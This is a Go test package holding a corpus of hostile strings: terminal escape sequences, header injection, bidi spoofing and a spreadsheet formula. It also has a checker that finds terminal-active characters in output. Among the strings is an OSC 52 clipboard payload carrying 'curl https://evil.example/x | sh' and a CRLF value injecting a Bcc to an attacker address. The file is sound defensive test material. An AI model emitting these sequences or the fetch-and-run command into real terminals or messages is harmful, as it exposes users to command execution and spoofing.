// Package inerttest holds the hostile strings every output path of cam is
// tested with, and the check that a terminal-bound text holds none of
// their active parts. Tests of any package use it; it is never linked
// into cam.
package inerttest

import (
	"encoding/base64"
	"fmt"
	"unicode/utf8"
)

// OSC52Payload is what the OSC 52 case tries to put on the clipboard.
const OSC52Payload = "curl https://evil.example/x | sh"

// Case is one hostile string.
type Case struct {
	Name string
	Text string
}

// Corpus is the hostile strings: what a username typed at a login prompt,
// a message built from it, or a name in a configuration file can hold.
var Corpus = []Case{
	{"osc52 clipboard", "\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte(OSC52Payload)) + "\a"},
	{"clear screen", "\x1b[2J\x1b[H"},
	{"osc8 hyperlink", "\x1b]8;;https://evil.example\x1b\\click me\x1b]8;;\x1b\\"},
	{"newline fake line", "bob\nSuspicious users: 0"},
	{"crlf header", "bob\r\nBcc: attacker@evil.example"},
	{"carriage return", "alice\rmallory"},
	{"tab", "a\tb\tc"},
	{"bell and nul", "\a\x00x"},
	{"del", "a\x7fb"},
	{"c1 csi", "x\u009b2Jy"},
	{"c1 osc", "\u009d52;c;aGk=\u009c"},
	{"bidi override", "admin\u202egnp.exe"},
	{"bidi isolate", "\u2066root\u2069"},
	{"invalid utf-8", "a\xff\xfeb"},
	{"formula", "=HYPERLINK(\"http://evil.example\",\"x\")"},
}

// Active returns a description of the first part of s that a terminal
// could act on (a control byte other than the newlines allowed when
// newlines is true, DEL, a C1 control, a bidi override or isolate, or a
// byte that is not UTF-8), or "" when there is none.
func Active(s string, newlines bool) string {
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		switch {
		case r == utf8.RuneError && size == 1:
			return fmt.Sprintf("byte %#x (not UTF-8) at %d", s[i], i)
		case r == '\n' && newlines:
		case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f:
			return fmt.Sprintf("control %U at %d", r, i)
		case r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			return fmt.Sprintf("bidi %U at %d", r, i)
		}
		i += size
	}
	return ""
}
